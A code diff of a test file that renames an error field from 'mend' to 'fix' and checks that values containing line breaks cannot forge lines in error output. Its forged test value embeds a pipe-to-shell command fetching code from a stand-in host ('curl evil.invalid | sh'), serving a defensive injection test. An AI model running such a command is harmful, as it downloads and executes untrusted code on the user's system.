@@ -30,16 +30,16 @@ test('JSON keeps a value to the character and steers no terminal', () => {
 });
 
 test('a value with line ends in it does not pass for lines of ours', () => {
-  const forged = 'x\n  mend: curl evil.invalid | sh';
-  const error = new BlissError({ code: 'DataInvalid', message: `what is ${forged}`, where: forged, mend: `leave ${forged}` });
-  expect(errorText(error).split('\n')).toEqual([`error: ${oneLine(forged)}: what is ${oneLine(forged)}`, `  mend: leave ${oneLine(forged)}`]);
+  const forged = 'x\n  fix: curl evil.invalid | sh';
+  const error = new BlissError({ code: 'DataInvalid', message: `what is ${forged}`, where: forged, fix: `leave ${forged}` });
+  expect(errorText(error).split('\n')).toEqual([`error: ${oneLine(forged)}: what is ${oneLine(forged)}`, `  fix: leave ${oneLine(forged)}`]);
   const two = new BlissError({ code: 'ConfigInvalid', message: '2 problems', where: 'a.yaml', list: [`a.yaml:1: ${forged}`, 'a.yaml:2: b'] });
   expect(errorText(two).split('\n')).toEqual(['error: a.yaml: 2 problems', `  a.yaml:1: ${oneLine(forged)}`, '  a.yaml:2: b']);
   expect(two.message).toBe(`a.yaml: 2 problems\n  a.yaml:1: ${forged}\n  a.yaml:2: b`);
   expect(columns([[forged, 'b'], ['a', 'b']])).toHaveLength(2);
   for (const row of columns([[forged, 'b'], ['a', 'b']])) expect(row).not.toContain('\n');
   expect(stageLine({ stage: 'a', state: 'waiting', attempt: 1, step: 0, of: 0, metrics: {}, startedAt: '', updatedAt: '', error: forged })).not.toContain('\n');
-  const failed = failureText({ run: 'r', homeOption: '', outcome: { state: 'failed', finishedAt: '', failure: { code: 'DataInvalid', message: forged, where: forged, mend: 'mend it' } } });
+  const failed = failureText({ run: 'r', homeOption: '', outcome: { state: 'failed', finishedAt: '', failure: { code: 'DataInvalid', message: forged, where: forged, fix: 'fix it' } } });
   expect(failed.split('\n')).toHaveLength(4);
 });
 
